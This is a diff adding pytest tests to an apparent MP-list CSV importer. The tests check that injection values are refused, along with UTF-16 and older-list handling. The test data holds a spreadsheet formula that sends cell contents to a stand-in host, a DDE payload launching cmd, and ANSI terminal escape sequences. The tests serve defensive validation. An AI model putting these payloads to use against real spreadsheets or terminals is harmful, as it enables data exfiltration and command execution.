@@ -183,3 +183,47 @@ def test_cli_missing_file_or_folder_is_a_plain_message(tmp_path, name: str) -> N
     assert "Traceback" not in err
     assert "not changed" in err
     assert_nothing_applied()
+
+
+@pytest.mark.parametrize(
+    "column, value, words",
+    [
+        ("mp_name", '=HYPERLINK("http://198.51.100.7/?x="&A1,"Click")', "spreadsheet formula"),
+        ("mp_name", "+cmd|' /C calc'!A0", "spreadsheet formula"),
+        ("party", "@SUM(1+1)", "spreadsheet formula"),
+        ("mp_name", "Ann\x1b[2J\x1b]0;pwned\x07 Jones", "control character"),
+        ("mp_name", "Ann Jones\nConstituency: Elsewhere", "control character"),
+        ("parliament_member_id", "1" * 5000, "up to 12 digits"),
+    ],
+)
+def test_names_that_would_act_on_a_terminal_or_a_spreadsheet_are_refused(tmp_path, column, value, words) -> None:
+    header, rows = shipped_rows()
+    rows[0][column] = value
+    report = apply_mp_csv(write_csv(tmp_path / "bad.csv", header, rows))
+    assert not report.ok
+    assert any(words in line and line.startswith("Line 2:") for line in report.problem_lines())
+    assert_nothing_applied()
+
+
+def test_a_utf16_file_is_called_utf16(tmp_path) -> None:
+    header, rows = shipped_rows()
+    path = write_csv(tmp_path / "good.csv", header, rows)
+    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
+    report = apply_mp_csv(path)
+    assert not report.ok and "UTF-16" in report.problem_lines()[0]
+
+
+def test_an_older_list_is_said_to_be_older_and_needs_a_yes(tmp_path) -> None:
+    header, rows = shipped_rows()
+    for row in rows:
+        row["record_as_of"] = "2024-07-05"
+    path = write_csv(tmp_path / "old.csv", header, rows)
+    report = apply_mp_csv(path)
+    assert not report.ok and "older than the list in use" in " ".join(report.problem_lines())
+    assert_nothing_applied()
+    ran = cli("data", "import-mps", str(path))
+    assert ran.code == 1 and "--allow-older" in ran.err
+    checked = validate_mp_csv(path)
+    assert any("older than the one in use" in line for line in checked.summary_lines())
+    ran = cli("data", "import-mps", "--allow-older", str(path))
+    assert ran.code == 0, ran.err
